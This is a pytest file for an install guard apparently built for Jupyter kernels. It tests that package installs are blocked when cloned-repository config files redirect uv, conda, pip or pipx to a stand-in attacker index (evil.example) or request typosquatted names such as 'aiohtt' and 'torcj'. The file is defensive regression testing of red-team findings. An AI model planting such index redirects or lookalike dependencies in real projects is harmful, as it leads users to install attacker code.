@@ -1,0 +1,307 @@
+"""Installs decided on the files their installer reads besides the command line (red-team
+findings F18, F12, F19, F7 in notes/red3): uv's config files, .condarc in every place conda
+looks, `uv sync` / `uv run` projects and PEP 723 scripts, pip's `--group`, and the front ends
+pipx, poetry, pdm, pipenv, hatch and `conda run`. Each case is a project folder as a cloned
+repository would hold it."""
+
+import json
+import os
+import sys
+from pathlib import Path
+
+import pytest
+from test_install_gate import POLICY
+
+from jupyterlab_warden.kernel.guard import catalog
+from jupyterlab_warden.kernel.guard.installs import decide
+from jupyterlab_warden.kernel.guard.installs.data import DepsData
+from jupyterlab_warden.kernel.guard.installs.gate import read_requests
+
+DATA = DepsData()
+RULES = catalog.Rules()
+EVIL = "https://evil.example/simple"
+
+
+def _decided(command, project: Path, **env_words):
+    """(rules that fire, whether it runs, the sources named, the package names)."""
+    home = project / "home"
+    home.mkdir(exist_ok=True)
+    env = {"HOME": str(home), "PIP_CONFIG_FILE": os.devnull, "XDG_CONFIG_DIRS": str(home / "x")}
+    env.update(env_words)
+    rules, runs, urls, names = set(), True, set(), set()
+    for request in read_requests(None, command, env, str(project)):
+        urls |= {s.url for s in request.sources}
+        names |= set(request.names())
+        for finding in decide.decide(request, POLICY, DATA):
+            action = RULES.action_for(finding.rule_id, POLICY)
+            rules.add(finding.rule_id)
+            runs = runs and action not in ("block", "confirm")
+    return sorted(rules), runs, urls, names
+
+
+def _write(root: Path, files: dict) -> None:
+    for name, text in files.items():
+        path = root / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+
+
+# -- F18: uv's own config files ---------------------------------------------------------------
+
+UV_LAYOUTS = {
+    "project uv.toml": ({"uv.toml": f'index-url = "{EVIL}"\n'}, {}),
+    "uv.toml in a parent folder": ({"../uv.toml": f'extra-index-url = ["{EVIL}"]\n'}, {}),
+    "pyproject [tool.uv] index-url": (
+        {"pyproject.toml": f'[project]\nname = "p"\n[tool.uv]\nindex-url = "{EVIL}"\n'},
+        {},
+    ),
+    "pyproject [[tool.uv.index]]": (
+        {"pyproject.toml": f'[[tool.uv.index]]\nname = "x"\nurl = "{EVIL}"\n'},
+        {},
+    ),
+    "uv.toml [pip] section": ({"uv.toml": f'[pip]\nfind-links = ["{EVIL}"]\n'}, {}),
+    "user ~/.config/uv/uv.toml": ({"home/.config/uv/uv.toml": f'index-url = "{EVIL}"\n'}, {}),
+    "XDG_CONFIG_HOME": ({"xdg/uv/uv.toml": f'index-url = "{EVIL}"\n'}, {"XDG_CONFIG_HOME": "xdg"}),
+    "system XDG_CONFIG_DIRS": (
+        {"sys/uv/uv.toml": f'index-url = "{EVIL}"\n'},
+        {"XDG_CONFIG_DIRS": "sys"},
+    ),
+    "UV_CONFIG_FILE": (
+        {"conf/any.toml": f'index-url = "{EVIL}"\n'},
+        {"UV_CONFIG_FILE": "conf/any.toml"},
+    ),
+}
+
+
+@pytest.mark.parametrize("layout", list(UV_LAYOUTS))
+@pytest.mark.parametrize("command", ["uv pip install numpy", "uv add numpy", "uvx black"])
+def test_an_index_in_any_uv_config_file_is_decided(tmp_path, layout, command):
+    project = tmp_path / "repo"
+    project.mkdir()
+    files, env = UV_LAYOUTS[layout]
+    _write(project, files)
+    env = {k: str(project / v) for k, v in env.items()}
+    rules, runs, urls, _ = _decided(command, project, **env)
+    assert EVIL in urls and rules == ["install-index-not-allowed"] and not runs
+
+
+def test_no_config_stops_discovery_but_not_a_named_file(tmp_path):
+    _write(tmp_path, {"uv.toml": f'index-url = "{EVIL}"\n', "ok.toml": "native-tls = true\n"})
+    assert _decided("uv --no-config pip install numpy", tmp_path)[:2] == ([], True)
+    assert _decided("uv pip install numpy", tmp_path, UV_NO_CONFIG="1")[:2] == ([], True)
+    assert not _decided("uv --no-config --config-file ok.toml pip install numpy", tmp_path)[0]
+    _write(tmp_path, {"ok.toml": f'index-url = "{EVIL}"\n'})
+    rules = _decided("uv pip install --no-config --config-file=ok.toml numpy", tmp_path)[0]
+    assert rules == ["install-index-not-allowed"]
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"uv.toml": 'index-url = "https://evil.example/simple\n'},  # not TOML
+        {"pyproject.toml": "[tool.uv]\nindex-url = [\n"},
+        {"uv.toml": "index-url = 3\n"},
+    ],
+)
+def test_a_uv_config_file_warden_cannot_read_refuses_the_install(tmp_path, files):
+    _write(tmp_path, files)
+    rules, runs, urls, _ = _decided("uv pip install numpy", tmp_path)
+    assert "install-unreadable" in rules and not runs
+
+
+def test_without_a_toml_reader_uv_config_is_unreadable_never_pypi(tmp_path, monkeypatch):
+    """Python 3.8-3.10 kernels have no tomllib: the install is refused, not decided as PyPI."""
+    _write(tmp_path, {"uv.toml": f'index-url = "{EVIL}"\n'})
+    monkeypatch.setitem(sys.modules, "tomllib", None)  # import tomllib raises ImportError
+    rules, runs, _, _ = _decided("uv pip install numpy", tmp_path)
+    assert rules == ["install-unreadable"] and not runs
+    (tmp_path / "uv.toml").unlink()
+    _write(tmp_path, {"pyproject.toml": '[project]\nname = "no-uv-here"\n'})
+    assert _decided("uv pip install numpy", tmp_path)[:2] == ([], True)  # nothing of uv in it
+
+
+def test_a_cloned_repo_uv_toml_stops_a_real_uv_process(guarded, tmp_path):
+    """`!uv pip install numpy` in a repository whose uv.toml names another index: without
+    Warden the (stand-in) uv runs; with Warden it is refused before it starts, with an event."""
+    marker = tmp_path / "uv-ran"
+    fake = tmp_path / "bin" / "uv"
+    fake.parent.mkdir()
+    fake.write_text(f"#!/bin/sh\ntouch {marker}\n")
+    fake.chmod(0o755)
+    (tmp_path / "uv.toml").write_text(f'index-url = "{EVIL}"\n')
+    command = f"{fake} pip install numpy"
+    assert guarded(POLICY, command, guarded=False)["exit"] == 0 and marker.exists()
+    marker.unlink()
+    result = guarded(POLICY, command)
+    assert result["type"] == "WardenBlockedInstall" and "evil.example" in result["refused"]
+    assert not marker.exists()
+    events = guarded.events()
+    assert [e["action"] for e in events if e["rule_id"] == "install-index-not-allowed"] == [
+        "blocked"
+    ]
+    assert "evil.example" in json.dumps(events)
+
+
+# -- F18: .condarc everywhere conda looks, flow lists ----------------------------------------
+
+CONDARCS = {
+    "flow list in ~/.condarc": ("home/.condarc", "channels: [conda-forge, '{u}']\n", {}),
+    "~/.conda/.condarc": ("home/.conda/.condarc", "channels:\n- {u}\n", {}),
+    "condarc.d folder": ("home/.conda/condarc.d/extra.yml", "channels:\n  - {u}\n", {}),
+    "CONDA_ROOT": ("root/condarc", "default_channels: [{u}]\n", {"CONDA_ROOT": "root"}),
+    "CONDARC file": ("x/rc.yml", "channel_alias: {u}\n", {"CONDARC": "x/rc.yml"}),
+    "custom_channels redirect a trusted name": (
+        "home/.condarc",
+        "custom_channels:\n  conda-forge: {u}\n",
+        {},
+    ),
+    "flow map": ("home/.condarc", "custom_channels: {{pytorch: {u}}}\n", {}),
+}
+
+
+@pytest.mark.parametrize("case", list(CONDARCS))
+def test_conda_channels_in_every_condarc_location_are_decided(tmp_path, case):
+    name, text, env = CONDARCS[case]
+    url = "https://evil.example/conda"
+    _write(tmp_path, {name: text.format(u=url)})
+    env = {k: str(tmp_path / v) for k, v in env.items()}
+    rules, runs, urls, _ = _decided("conda install numpy", tmp_path, **env)
+    assert url in urls and rules == ["install-index-not-allowed"] and not runs
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["channels: &c [a]\n", "channels: [a, [b]]\n", "channels:\n  - !!str evil\n", "channels: *x\n"],
+)
+def test_condarc_yaml_beyond_the_reader_is_refused(tmp_path, text):
+    _write(tmp_path, {"home/.condarc": text})
+    rules, runs, _, _ = _decided("conda install numpy", tmp_path)
+    assert "install-unreadable" in rules and not runs
+
+
+# -- F12: uv sync, uv run (project and PEP 723 scripts) --------------------------------------
+
+PROJECT = """[project]
+name = "demo"
+dependencies = ["numpy>=1.26"]
+[project.optional-dependencies]
+nlp = ["tranformers==4.0"]
+[dependency-groups]
+dev = ["pytest", {include-group = "lint"}]
+lint = ["aiohtt==3.8"]
+"""
+SCRIPT = """# /// script
+# requires-python = ">=3.11"
+# dependencies = ["scikit-lean", "numpy"]
+# [tool.uv]
+# extra-index-url = ["https://evil.example/simple"]
+# ///
+import numpy
+"""
+
+
+def test_uv_sync_reads_the_project_dependencies_extras_and_groups(tmp_path):
+    _write(tmp_path, {"pyproject.toml": PROJECT})
+    (tmp_path / "src").mkdir()
+    rules, runs, _, names = _decided("uv sync --all-extras", tmp_path / "src")  # a subfolder
+    assert {"numpy", "tranformers", "pytest", "aiohtt"} <= names
+    assert {"install-known-malicious", "install-imitation-name"} <= set(rules) and not runs
+
+
+def test_uv_sync_follows_the_lock_file_sources(tmp_path):
+    lock = (
+        'version = 1\n[[package]]\nname = "numpy"\nversion = "2.0"\n'
+        f'source = {{ registry = "{EVIL}" }}\n'
+        '[[package]]\nname = "demo"\nversion = "0.1"\nsource = { editable = "." }\n'
+    )
+    _write(tmp_path, {"pyproject.toml": '[project]\nname = "demo"\n', "uv.lock": lock})
+    rules, runs, urls, names = _decided("uv sync --frozen", tmp_path)
+    assert EVIL in urls and "numpy" in names and "demo" not in names and not runs
+
+
+def test_uv_sync_decides_the_projects_own_indexes_even_without_config(tmp_path):
+    text = PROJECT + f'[[tool.uv.index]]\nname = "m"\nurl = "{EVIL}"\ndefault = true\n'
+    _write(tmp_path, {"pyproject.toml": text})
+    for command in ("uv sync", "uv --no-config sync"):
+        rules, runs, urls, _ = _decided(command, tmp_path)
+        assert EVIL in urls and "install-index-not-allowed" in rules and not runs
+
+
+def test_a_large_lock_file_is_read_not_refused(tmp_path):
+    """A big ML project's uv.lock (every wheel's hash) passes 1 MB: it is still read."""
+    lock = 'version = 1\n[[package]]\nname = "torcj"\nversion = "1.0"\n' + "#" * (2 << 20)
+    _write(tmp_path, {"pyproject.toml": '[project]\nname = "demo"\n', "uv.lock": lock + "\n"})
+    rules, runs, _, names = _decided("uv sync", tmp_path)
+    assert names == {"torcj"} and rules == ["install-imitation-name"] and not runs
+
+
+def test_uv_sync_without_a_project_or_readable_pyproject_is_unreadable(tmp_path):
+    assert _decided("uv sync", tmp_path)[:2] == (["install-unreadable"], False)
+    _write(tmp_path, {"pyproject.toml": "[project\n"})
+    assert _decided("uv sync", tmp_path)[:2] == (["install-unreadable"], False)
+
+
+@pytest.mark.parametrize(
+    "command", ["uv run fit.py", "uv run --script fit.py", "uv sync --script fit.py"]
+)
+def test_uv_run_reads_a_scripts_inline_metadata(tmp_path, command):
+    _write(tmp_path, {"fit.py": SCRIPT, "pyproject.toml": PROJECT})
+    rules, runs, urls, names = _decided(command, tmp_path)
+    assert "scikit-lean" in names and EVIL in urls and not runs
+    assert "aiohtt" not in names  # a script with metadata runs apart from the project
+    assert {"install-imitation-name", "install-index-not-allowed"} <= set(rules)
+
+
+def test_uv_run_in_a_project_syncs_it_unless_told_not_to(tmp_path):
+    _write(tmp_path, {"pyproject.toml": PROJECT, "plain.py": "print(1)\n"})
+    assert "aiohtt" in _decided("uv run plain.py", tmp_path)[3]
+    assert "aiohtt" in _decided("uv run python -c 1", tmp_path)[3]
+    assert _decided("uv run --no-project plain.py", tmp_path)[:2] == ([], True)
+    assert _decided("uv run --with torcj --no-sync plain.py", tmp_path)[3] == {"torcj"}
+
+
+def test_an_unreadable_inline_block_is_refused(tmp_path):
+    _write(tmp_path, {"fit.py": "# /// script\n# dependencies = [\n# ///\n"})
+    assert _decided("uv run fit.py", tmp_path)[:2] == (["install-unreadable"], False)
+
+
+# -- F19: pip install --group -----------------------------------------------------------------
+
+
+def test_pip_group_reads_the_dependency_group_and_its_includes(tmp_path):
+    _write(tmp_path, {"pyproject.toml": PROJECT, "sub/pyproject.toml": PROJECT})
+    rules, runs, _, names = _decided("pip install --group dev", tmp_path)
+    assert names == {"pytest", "aiohtt"} and rules == ["install-known-malicious"] and not runs
+    assert _decided("pip install --group sub/pyproject.toml:lint", tmp_path)[3] == {"aiohtt"}
+    assert _decided("pip install --group nope", tmp_path)[:2] == (["install-unreadable"], False)
+
+
+# -- F7: front ends ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command, names, rules",
+    [
+        ("conda run pip install aiohtt", {"aiohtt"}, ["install-known-malicious"]),
+        ("mamba run -n other python -m pip install torcj", {"torcj"}, ["install-imitation-name"]),
+        ("pipx install torcj", {"torcj"}, ["install-imitation-name"]),
+        ("pipx run --spec aiohtt tool", {"aiohtt"}, ["install-known-malicious"]),
+        ("pipx install black --pip-args='-i https://evil.example/simple'", {"black"},
+         ["install-index-not-allowed"]),
+        ("poetry add numpy", {"numpy"}, ["install-unreadable"]),
+        ("pdm add tranformers", {"tranformers"}, ["install-imitation-name", "install-unreadable"]),
+        ("pipenv install", set(), ["install-unreadable"]),
+        ("hatch run pip install torcj", {"torcj"},
+         ["install-imitation-name", "install-unreadable"]),
+        ("poetry run pip install torcj", {"torcj"}, ["install-imitation-name"]),
+        ("micromamba run --bogus x pip install numpy", set(), ["install-unreadable"]),
+    ],
+)  # fmt: skip
+def test_front_ends_are_decided(tmp_path, command, names, rules):
+    got_rules, runs, _, got_names = _decided(command, tmp_path)
+    assert got_names == names and got_rules == rules and not runs
+
+
+def test_front_end_commands_that_install_nothing_pass(tmp_path):
+    for command in ("poetry show", "pipenv run python x.py", "conda run -n x python t.py"):
+        assert _decided(command, tmp_path)[:2] == ([], True)
